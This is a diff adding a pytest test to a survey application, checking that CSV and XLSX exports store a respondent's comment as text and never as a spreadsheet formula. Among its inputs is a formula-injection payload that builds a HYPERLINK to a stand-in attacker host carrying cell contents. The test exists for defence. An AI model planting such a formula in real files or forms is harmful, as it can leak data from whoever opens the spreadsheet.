@@ -3,6 +3,7 @@ under five, filters, and the exports (CSV, XLSX, SPSS with value labels)."""
 
 from __future__ import annotations
 
+import io
 import os
 import tempfile
 
@@ -109,3 +110,29 @@ def test_exports_carry_codes_and_value_labels_but_no_small_school() -> None:
     assert meta.variable_value_labels["has_child"] == {1.0: "Да", 2.0: "Нет"}
     assert list(frame["topics_maths"]) == [1.0] * 3 and list(frame["topics_reading"]) == [0.0] * 3
     assert meta.column_names_to_labels["age"] == "Возраст ребёнка"
+
+
+@pytest.mark.django_db
+def test_exports_do_not_turn_a_respondents_text_into_a_formula() -> None:
+    # A public respondent types a spreadsheet formula into an open question: the exports must
+    # carry it as text, never as a formula that runs when the officer opens the file.
+    import openpyxl
+
+    survey = public_survey()
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    for index, comment in enumerate([hostile, "+1+1", "-2+3", "@SUM(A1)", "fine"]):
+        response_submit_public(
+            survey=survey,
+            raw={**GOOD_ANSWERS, "comment": comment},
+            token=f"f{index}",
+            group="parent",
+            organisation_id=None,
+        )
+    text = exports.as_csv(survey, "ru").decode("utf-8-sig")
+    cells = [cell for line in text.splitlines() for cell in line.split(",")]
+    assert not any(cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells)
+    assert "'=HYPERLINK" in text
+    book = openpyxl.load_workbook(io.BytesIO(exports.as_xlsx(survey, "ru")))
+    values = [c.value for row in book.active.iter_rows() for c in row]
+    assert hostile in values
+    assert not any(c.data_type == "f" for row in book.active.iter_rows() for c in row)
